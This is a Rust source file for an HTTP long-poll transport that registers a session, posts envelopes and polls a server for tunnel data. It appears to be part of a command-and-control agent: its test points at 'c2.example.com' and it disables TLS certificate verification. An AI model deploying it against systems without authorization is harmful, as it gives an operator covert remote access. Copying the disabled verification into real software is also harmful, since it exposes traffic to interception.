//! HTTP(S) long-poll carrier. Outbound envelopes are posted to the
//! server, inbound envelopes are fetched by polling; an empty poll body
//! means the server had nothing queued. The `?proxy=` query parameter on
//! the server URI routes the whole session through an upstream proxy.

use super::{ConnectError, Connection, QUEUE_SIZE};
use crate::{
    config,
    envelope::Envelope,
    state,
};
use log::debug;
use prost::Message;
use serde::Deserialize;
use std::{sync::Arc, time::Duration};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;
use url::Url;

/// Total timeout applied to every request including polls. The server
/// answers an idle poll with an empty body well before this fires, so a
/// timeout is a real sign of trouble.
const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);

/// Session descriptor returned by the registration endpoint
#[derive(Deserialize)]
struct SessionResponse {
    id: String,
}

/// Outcome of a single poll distinguishing tolerated timeouts from
/// fatal transport errors
enum PollError {
    Timeout(reqwest::Error),
    Fatal(reqwest::Error),
}

/// Established HTTP session with the server
struct HttpClient {
    client: reqwest::Client,
    /// Session-scoped endpoint outbound envelopes are posted to
    send_url: Url,
    /// Session-scoped endpoint polled for inbound traffic
    poll_url: Url,
    session_id: String,
    /// Proxy the session was resolved through, empty when direct
    proxy_url: String,
}

impl HttpClient {
    /// Registers a new session with the server behind `uri`
    async fn start_session(uri: &Url) -> Result<HttpClient, ConnectError> {
        let proxy_config = uri
            .query_pairs()
            .find(|(key, _)| key == "proxy")
            .map(|(_, value)| value.into_owned());

        let mut builder = reqwest::Client::builder()
            .timeout(REQUEST_TIMEOUT)
            // Operator listeners routinely present self-signed certificates
            .danger_accept_invalid_certs(true);

        let proxy_url = match &proxy_config {
            Some(raw) => {
                builder = builder.proxy(reqwest::Proxy::all(raw.as_str())?);
                raw.clone()
            }
            None => String::new(),
        };

        let client = builder.build()?;

        let mut base = uri.clone();
        base.set_query(None);

        let register = base
            .join(config::HTTP_SESSION_PATH)
            .map_err(|_| ConnectError::InvalidUri)?;
        let session: SessionResponse = client
            .post(register)
            .send()
            .await?
            .error_for_status()?
            .json()
            .await?;

        let send_url = session_url(&base, config::HTTP_SEND_PATH, &session.id)?;
        let poll_url = session_url(&base, config::HTTP_POLL_PATH, &session.id)?;

        Ok(HttpClient {
            client,
            send_url,
            poll_url,
            session_id: session.id,
            proxy_url,
        })
    }

    /// Posts one serialized envelope to the server
    async fn send(&self, data: Vec<u8>) -> Result<(), reqwest::Error> {
        self.client
            .post(self.send_url.clone())
            .body(data)
            .send()
            .await?
            .error_for_status()?;
        Ok(())
    }

    /// Polls the server for queued traffic, returning the raw body
    /// which is empty when nothing was queued
    async fn poll(&self) -> Result<Vec<u8>, PollError> {
        let response = self
            .client
            .get(self.poll_url.clone())
            .send()
            .await
            .map_err(classify)?;
        let response = response.error_for_status().map_err(PollError::Fatal)?;
        let body = response.bytes().await.map_err(classify)?;
        Ok(body.to_vec())
    }
}

/// Builds a session-scoped URL for a compiled endpoint path
fn session_url(base: &Url, path: &str, session_id: &str) -> Result<Url, ConnectError> {
    let mut url = base.join(path).map_err(|_| ConnectError::InvalidUri)?;
    url.set_query(Some(&format!("s={session_id}")));
    Ok(url)
}

/// Sorts a transport error into tolerated-timeout or fatal
fn classify(err: reqwest::Error) -> PollError {
    if err.is_timeout() {
        PollError::Timeout(err)
    } else {
        PollError::Fatal(err)
    }
}

pub(super) async fn connect(uri: &Url) -> Result<Arc<Connection>, ConnectError> {
    debug!(
        "[http] Connecting to {}://{}",
        uri.scheme(),
        uri.host_str().ok_or(ConnectError::InvalidUri)?
    );

    let client = Arc::new(HttpClient::start_session(uri).await?);
    debug!("[http] Session {} established", client.session_id);
    state::set_proxy_url(client.proxy_url.clone());

    let (send_tx, mut send_rx) = mpsc::channel::<Envelope>(QUEUE_SIZE);
    let (recv_tx, recv_rx) = mpsc::channel::<Envelope>(QUEUE_SIZE);
    let ctrl = CancellationToken::new();

    let connection = Connection::new(
        send_tx,
        recv_rx,
        ctrl.clone(),
        Box::new(|| debug!("[http] Lost connection, cleaning up")),
    );

    // Writer: each envelope is an independent POST, dispatched without
    // waiting so a slow request doesn't hold the queue hostage
    let writer_ctrl = ctrl.clone();
    let writer_connection = connection.clone();
    let writer_client = client.clone();
    tokio::spawn(async move {
        loop {
            tokio::select! {
                _ = writer_ctrl.cancelled() => break,
                envelope = send_rx.recv() => {
                    let envelope = match envelope {
                        Some(value) => value,
                        None => break,
                    };
                    let client = writer_client.clone();
                    tokio::spawn(async move {
                        if let Err(err) = client.send(envelope.encode_to_vec()).await {
                            debug!("[http] Send failed: {err}");
                        }
                    });
                }
            }
        }

        writer_connection.cleanup();
    });

    // Poller: drives the inbound side. Consecutive timeouts are counted
    // per connection and forgiven while under the compiled error budget;
    // any other transport error kills the session.
    let poller_connection = connection.clone();
    tokio::spawn(async move {
        let max_errors = config::max_connection_errors();
        let mut error_count = 0;

        loop {
            tokio::select! {
                _ = ctrl.cancelled() => break,
                result = client.poll() => {
                    match result {
                        Ok(body) => {
                            error_count = 0;
                            if body.is_empty() {
                                continue;
                            }
                            let envelope = match Envelope::decode(body.as_slice()) {
                                Ok(value) => value,
                                Err(err) => {
                                    debug!("[http] Failed to decode envelope: {err}");
                                    continue;
                                }
                            };
                            tokio::select! {
                                _ = ctrl.cancelled() => break,
                                sent = recv_tx.send(envelope) => {
                                    if sent.is_err() {
                                        break;
                                    }
                                }
                            }
                        }
                        Err(PollError::Timeout(err)) => {
                            error_count += 1;
                            debug!("[http] Timeout error #{error_count}: {err}");
                            if error_count >= max_errors {
                                break;
                            }
                        }
                        Err(PollError::Fatal(err)) => {
                            debug!("[http] Poll error: {err}");
                            break;
                        }
                    }
                }
            }
        }

        poller_connection.cleanup();
    });

    state::set_active_connection(connection.clone());
    Ok(connection)
}

#[cfg(test)]
mod test {
    use super::HttpClient;
    use crate::envelope::{msg, Envelope};
    use prost::Message;
    use tokio::{
        io::{AsyncReadExt, AsyncWriteExt},
        net::TcpListener,
    };
    use url::Url;

    /// Minimal single-request HTTP responder for exercising the client
    /// without a real server stack
    async fn respond_once(listener: &TcpListener, body: &[u8]) -> String {
        let (mut socket, _) = listener.accept().await.unwrap();

        let mut request = Vec::new();
        let mut buffer = [0u8; 1024];
        loop {
            let count = socket.read(&mut buffer).await.unwrap();
            request.extend_from_slice(&buffer[..count]);
            if count == 0 || request.windows(4).any(|window| window == b"\r\n\r\n") {
                break;
            }
        }

        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        socket.write_all(head.as_bytes()).await.unwrap();
        socket.write_all(body).await.unwrap();
        socket.flush().await.unwrap();

        String::from_utf8_lossy(&request).into_owned()
    }

    /// Tests session registration and that polled bodies round-trip
    /// back into envelopes
    #[tokio::test]
    async fn test_session_and_poll() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let uri = Url::parse(&format!("http://127.0.0.1:{port}")).unwrap();

        let server = tokio::spawn(async move {
            let register = respond_once(&listener, br#"{"id":"abc123"}"#).await;
            assert!(register.starts_with("POST /authenticate"));

            let envelope = Envelope::new(msg::TUNNEL_DATA, b"payload".to_vec());
            let poll = respond_once(&listener, &envelope.encode_to_vec()).await;
            assert!(poll.starts_with("GET /poll?s=abc123"));
        });

        let client = HttpClient::start_session(&uri).await.unwrap();
        assert_eq!(client.session_id, "abc123");
        assert!(client.proxy_url.is_empty());

        let body = client.poll().await.ok().unwrap();
        let envelope = Envelope::decode(body.as_slice()).unwrap();
        assert_eq!(envelope.r#type, msg::TUNNEL_DATA);
        assert_eq!(envelope.data, b"payload".to_vec());

        server.await.unwrap();
    }

    /// Tests that the proxy query parameter is extracted and published
    /// as the session proxy
    #[test]
    fn test_proxy_query_extraction() {
        let uri = Url::parse("https://c2.example.com?proxy=http://p:3128").unwrap();
        let proxy = uri
            .query_pairs()
            .find(|(key, _)| key == "proxy")
            .map(|(_, value)| value.into_owned());
        assert_eq!(proxy.as_deref(), Some("http://p:3128"));
    }
}
